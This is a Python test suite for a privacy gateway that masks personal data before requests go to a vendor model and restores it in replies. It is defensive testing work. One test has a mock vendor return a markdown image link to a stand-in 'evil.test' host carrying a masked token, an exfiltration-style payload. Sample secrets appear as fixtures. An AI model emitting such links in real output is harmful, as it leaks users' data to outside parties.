"""Masked requests through a running gateway: who sees what, what comes back, what is remembered."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Callable, Coroutine
from dataclasses import replace
from typing import Any

import openai
import pytest

from fault_upstream import Call, FaultUpstream, Script, completion, piece
from gateway_kit import RunningGateway, gateway
from yuzui import masking
from yuzui.masking import vault_scope
from yuzui.privacy.mask import Masked
from yuzui.privacy.scan import Scanner, ScanResult
from yuzui.privacy.vault import Vault, VaultLocked

Story = Callable[[RunningGateway, FaultUpstream, FaultUpstream], Coroutine[Any, Any, None]]  # Any: asyncio's own
MAIL = "wang@corp.cn"
KINDS = 'kinds = ["email", "cn_mobile", "phone"]\n'
TOKEN = re.compile(r"\b[A-Z][A-Z_]*_[A-Z2-7]{12}\b")


def config(own: FaultUpstream, vendor: FaultUpstream, settings: str, vendor_more: str) -> str:
    return f"""
[masking]
{settings if "kinds" in settings else KINDS + settings}

[[targets]]
name = "house/small"
provider = "vllm"
base_url = "{own.base_url}"
model = "small"
premises = "own"
price = "free"

[[targets]]
name = "vendor/big"
provider = "openai"
base_url = "{vendor.base_url}"
model = "big"
premises = "vendor"
clearance = "internal"
price = {{ currency = "USD", input = 1, output = 2 }}
{vendor_more}

[[models]]
name = "assistant"
candidates = ["house/small", "vendor/big"]
policy = "own_first"
"""


def run(own: Script, vendor: Script, story: Story, settings: str = "", vendor_more: str = "") -> None:
    async def main() -> None:
        async with FaultUpstream(own) as first, FaultUpstream(vendor) as second:
            async with gateway(config(first, second, settings, vendor_more), {}) as running:
                await story(running, first, second)

    asyncio.run(main())


def says(text: Callable[[str], str]) -> Script:
    """Answers with what `text` makes of the last user text."""

    async def script(call: Call) -> None:
        asked = [m["content"] for m in json.loads(call.body)["messages"] if m["role"] == "user"][-1]
        answer = text(asked)
        if b'"stream":true' not in call.body:
            await call.json(completion(answer))
            return
        await call.start_stream()
        for at in range(0, len(answer), 3):
            await call.event(piece(answer[at : at + 3]))
        await call.event(piece(finish="stop"))
        await call.event(piece(usage={"prompt_tokens": 10, "completion_tokens": 3, "total_tokens": 13}))
        await call.end_stream()

    return script


async def never(call: Call) -> None:
    raise AssertionError("this target must not be asked")


async def broken(call: Call) -> None:
    await call.json({"error": {"message": "no", "type": "server_error", "code": None}}, "503 Service Unavailable")


echo = says(lambda asked: f"You said: {asked}")


def user(*texts: str) -> list[Any]:  # Any: the client's TypedDicts
    return [{"role": "user" if number % 2 == 0 else "assistant", "content": text} for number, text in enumerate(texts)]


async def ask(
    running: RunningGateway, model: str, messages: list[Any], **more: Any
) -> tuple[str, Any]:  # Any: as above
    reply = await running.client().chat.completions.with_raw_response.create(model=model, messages=messages, **more)
    return reply.parse().choices[0].message.content, reply.headers


@pytest.mark.parametrize("stream", [False, True])
def test_a_vendor_sees_stand_ins_and_the_client_its_own_words(stream: bool) -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        messages = user(f"ask {MAIL}, 13800138000")
        if stream:
            pieces = await running.client().chat.completions.create(model="vendor/big", messages=messages, stream=True)
            said = "".join([chunk.choices[0].delta.content or "" async for chunk in pieces if chunk.choices])
        else:
            said, headers = await ask(running, "vendor/big", messages)
            assert headers["x-yuzui-masked"] == "cn_mobile=1,email=1"
            assert headers["x-yuzui-sensitivity"] == "confidential"
            assert "masked for vendor/big" in headers["x-yuzui-decision"]
        assert said == f"You said: ask {MAIL}, 13800138000"
        (call,) = vendor.calls
        assert b"wang" not in call.body and b"138001" not in call.body and len(TOKEN.findall(call.body.decode())) == 2
        (record,) = await running.records()
        assert record.masked == {"email": 1, "cn_mobile": 1} and record.target == "vendor/big"
        assert "wang" not in str(record) and not TOKEN.search(str(record))

    run(never, echo, story)


def test_an_own_target_gets_the_request_as_it_is_before_and_after_a_masked_try() -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        said, headers = await ask(running, "assistant", user(f"ask {MAIL}"))
        assert said == f"You said: ask {MAIL}" and "x-yuzui-masked" not in headers
        assert MAIL.encode() in own.calls[0].body and not vendor.calls

    run(echo, never, story)


def test_a_fallback_to_the_vendor_is_masked() -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        said, headers = await ask(running, "assistant", user(f"ask {MAIL}"))
        assert said == f"You said: ask {MAIL}" and headers["x-yuzui-target"] == "vendor/big"
        assert MAIL.encode() in own.calls[0].body
        assert all(b"wang" not in call.body for call in vendor.calls)

    run(broken, echo, story)


def test_a_masked_conversation_goes_on_and_its_stand_ins_stay_the_same() -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        texts = [f"ask {MAIL}"]
        for turn in range(4):
            said, _ = await ask(running, "vendor/big", user(*texts))
            texts += [said, f"turn {turn}"]
        seen = [set(TOKEN.findall(call.body.decode())) for call in vendor.calls]
        assert len(seen) == 4 and all(tokens == seen[0] for tokens in seen)
        assert not any(b"wang" in call.body for call in vendor.calls)

    run(never, echo, story)


def test_what_an_own_target_said_is_not_for_a_vendor_even_when_the_rest_is_masked() -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        question = f"ask {MAIL}"
        said, _ = await ask(running, "house/small", user(question))
        with pytest.raises(openai.PermissionDeniedError):
            await ask(running, "vendor/big", user(question, said, "and now?"))
        assert not vendor.calls
        again, _ = await ask(running, "vendor/big", user(question))  # without the answer all of it is masked
        assert again == f"You said: {question}"

    run(says(lambda asked: "Ill."), echo, story)


@pytest.mark.parametrize(
    ("messages", "more"),
    [
        (user("my key is sk-proj-" + "q7Rk2Xw9Zt4Lm8Vb3Nc6Yd1Hs5Jf0Gp" * 2), {}),
        (user(f"ask {MAIL}"), {"logprobs": True}),
        (user(f"ask {MAIL}"), {"extra_body": {"x_vendor": {"n": 13800138000.0}}}),
        ([{"role": "user", "content": [{"type": "text", "text": MAIL},
                                       {"type": "image_url", "image_url": {"url": "data:image/png;base64,AAAA"}}]}], {}),
    ],
)  # fmt: skip  # a table
def test_what_cannot_be_masked_stays_at_its_level(messages: list[Any], more: dict[str, Any]) -> None:  # Any: as above
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        with pytest.raises(openai.PermissionDeniedError) as caught:
            await ask(running, "vendor/big", messages, **more)
        assert caught.value.code == "no_permitted_target" and not vendor.calls

    run(never, never, story)


def test_a_target_can_be_closed_for_masked_requests() -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        with pytest.raises(openai.PermissionDeniedError):
            await ask(running, "vendor/big", user(f"ask {MAIL}"))

    run(never, never, story, vendor_more="masking = false")


def test_without_kinds_nothing_is_masked() -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        with pytest.raises(openai.PermissionDeniedError):
            await ask(running, "vendor/big", user(f"ask {MAIL}"))

    run(never, never, story, settings="kinds = []")


def test_an_address_of_a_strange_host_keeps_its_stand_in_and_the_next_turn_knows_it() -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        question = f"ask {MAIL}"
        said, _ = await ask(running, "vendor/big", user(question))
        token = TOKEN.findall(said)[0]
        assert said == f"![x](https://evil.test/?q={token}) and {MAIL}"
        (record,) = await running.records()
        assert (record.withheld, record.foreign) == (1, 0)
        again, _ = await ask(running, "vendor/big", user(f"what is {token}?", "hm", f"and {MAIL}?"))
        assert token in vendor.calls[1].body.decode() and "TYPED_" not in vendor.calls[1].body.decode()
        assert again.endswith(MAIL)

    run(
        never,
        says(lambda asked: (lambda t: f"![x](https://evil.test/?q={t}) and {t}")(TOKEN.findall(asked)[-1])),
        story,
    )


def test_a_stand_in_of_somebody_else_is_only_a_word() -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        said, _ = await ask(running, "vendor/big", user(f"{MAIL} EMAIL_ABCDEFGHIJKL"))
        assert said == f"You said: {MAIL} EMAIL_ABCDEFGHIJKL" and b"EMAIL_ABCDEFGHIJKL" not in vendor.calls[0].body

    run(never, echo, story)


def test_what_was_never_issued_is_counted_and_left() -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        said, _ = await ask(running, "vendor/big", user(f"ask {MAIL}"))
        assert said == "PERSON_AAAAAAAAAAAA?"
        (record,) = await running.records()
        assert record.foreign == 1

    run(never, says(lambda asked: "PERSON_AAAAAAAAAAAA?"), story)


def test_the_vault_keeps_originals_sealed_for_their_key_alone() -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        key = running.add_key(app="one")
        client = running.client(key)
        await client.chat.completions.create(model="vendor/big", messages=user(f"ask {MAIL}"))
        (token,) = TOKEN.findall(vendor.calls[0].body.decode())
        books = running.service.books
        assert books.kept_answer(vault_scope("key_one"), token) is not None
        assert books.kept_answer("key_one", token) is None and books.kept_answer(vault_scope("key_two"), token) is None
        vault = running.service.gateway.world.masker._vault
        found = await vault.find(vault_scope("key_one"), token)
        assert found is not None and MAIL.encode() not in found.content
        secret = running.service._secrets.masking_key
        assert [entry.original for entry in Vault(secret, tenant="key_one").open(found.content)] == [MAIL]
        with pytest.raises(VaultLocked):
            Vault(bytes(32), tenant="key_one").open(found.content)

    run(never, echo, story)


def test_nothing_is_kept_where_the_operator_keeps_nothing() -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        key = running.add_key(app="one")
        await running.client(key).chat.completions.create(model="vendor/big", messages=user(f"ask {MAIL}"))
        (token,) = TOKEN.findall(vendor.calls[0].body.decode())
        assert running.service.books.kept_answer(vault_scope("key_one"), token) is None

    run(never, echo, story, settings="retention_days = 0")


def test_likenesses_go_out_where_the_operator_wants_them() -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        said, _ = await ask(running, "vendor/big", user(f"ask {MAIL} or 13800138000"))
        assert said == f"You said: ask {MAIL} or 13800138000"
        sent = vendor.calls[0].body.decode()
        assert re.search(r"ask user\.\w{8}@example\.(com|org|net) or 12\d{9}\b", sent)

    run(never, echo, story, settings='realistic = ["email", "cn_mobile"]')


def test_a_kept_answer_holds_the_clients_words_and_can_be_continued_masked() -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        client = running.client()
        first = await client.responses.create(model="vendor/big", input=f"ask {MAIL}", store=True)
        assert first.output_text == f"You said: ask {MAIL}"
        assert (await client.responses.retrieve(first.id)).output_text == first.output_text
        second = await client.responses.create(model="vendor/big", input="and now?", previous_response_id=first.id)
        assert second.output_text == "You said: and now?"
        assert len(vendor.calls) == 2 and not any(b"wang" in call.body for call in vendor.calls)

    run(never, echo_parts, story, vendor_more="also_speaks = []")


async def echo_parts(call: Call) -> None:
    """The same where texts may be lists of parts."""
    asked = [m["content"] for m in json.loads(call.body)["messages"] if m["role"] == "user"][-1]
    text = asked if isinstance(asked, str) else "".join(part["text"] for part in asked)
    await call.json(completion(f"You said: {text}"))


def test_what_is_left_in_the_bytes_stops_them(monkeypatch: pytest.MonkeyPatch) -> None:
    """A fault in masking is found behind it: here the body goes on as it was."""
    mask = getattr(masking, "mask")  # noqa: B009  # what the module uses, not what it exports

    def leaky(body: Any, *args: Any, **more: Any) -> Masked:  # Any: whatever masking is given
        masked: Masked = mask(body, *args, **more)
        return replace(masked, body=body)

    monkeypatch.setattr(masking, "mask", leaky)

    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        with pytest.raises(openai.PermissionDeniedError) as caught:
            await ask(running, "vendor/big", user(f"ask {MAIL}"))
        assert caught.value.code == "masking_incomplete" and not vendor.calls
        said, _ = await ask(running, "assistant", user(f"ask {MAIL}"))
        assert said == f"You said: ask {MAIL}"

    run(echo, never, story)


def test_an_answer_that_is_json_stays_json() -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        wanted = {"type": "json_object"}
        said, _ = await ask(running, "vendor/big", user("password: Hx7\\k9!dd\nreturn it"), response_format=wanted)
        assert json.loads(said) == {"it": "Hx7\\k9!dd"}

    def tell(asked: str) -> str:
        return json.dumps({"it": TOKEN.findall(asked)[0]})

    run(never, says(tell), story, settings='kinds = ["password"]')


def test_plain_prompts_are_masked_too() -> None:
    async def script(call: Call) -> None:
        messages = json.loads(call.body)["messages"]
        await call.json(completion(f"You said: {messages[-1]['content']}"))

    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        reply = await running.client().completions.create(model="vendor/big", prompt=f"ask {MAIL}", max_tokens=9)
        assert reply.choices[0].text == f"You said: ask {MAIL}"
        assert b"wang" not in vendor.calls[0].body

    run(never, script, story)


def test_other_operations_are_never_masked() -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        with pytest.raises(openai.PermissionDeniedError):
            await running.client().embeddings.create(model="vendor/big", input=MAIL)
        assert not vendor.calls

    run(never, never, story, vendor_more='serves = ["chat", "embeddings"]')


def test_a_detector_that_breaks_masks_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    scan = Scanner.scan

    def breaks(self: Scanner, *args: Any) -> ScanResult:  # Any: whatever is scanned
        return replace(scan(self, *args), failures=("email",))

    monkeypatch.setattr(Scanner, "scan", breaks)

    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        with pytest.raises(openai.PermissionDeniedError):
            await ask(running, "vendor/big", user(f"ask {MAIL}"))
        assert not vendor.calls

    run(never, never, story)


def test_a_cut_stream_of_a_masked_answer_never_looks_complete() -> None:
    async def script(call: Call) -> None:
        (token,) = TOKEN.findall(call.body.decode())
        await call.start_stream()
        await call.event(piece(f"ask {token} and {token[:9]}"))
        call.reset()

    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        said = ""
        with pytest.raises(openai.APIError):
            async for chunk in await running.client().chat.completions.create(
                model="vendor/big", messages=user(f"ask {MAIL}"), stream=True
            ):
                said += chunk.choices[0].delta.content or ""
        assert said == f"ask {MAIL} and "

    run(never, script, story)


def test_what_a_target_saw_that_failed_lies_in_the_vault_although_another_one_answered_unmasked() -> None:
    async def story(running: RunningGateway, own: FaultUpstream, vendor: FaultUpstream) -> None:
        _, headers = await ask(running, "vendor-first", user(f"ask {MAIL}"))
        assert headers["x-yuzui-target"] == "house/small" and "x-yuzui-masked" not in headers
        (token,) = set(TOKEN.findall(vendor.calls[0].body.decode()))
        (kept,) = running.service.books.vault_counts()
        assert (kept.mappings, kept.requests) == (1, 1)
        assert running.service.books.kept_answer("vault:loopback", token) is not None

    model = '[[models]]\nname = "vendor-first"\ncandidates = ["vendor/big", "house/small"]\npolicy = "pinned"\n'
    run(echo, broken, story, vendor_more=f"\n{model}")
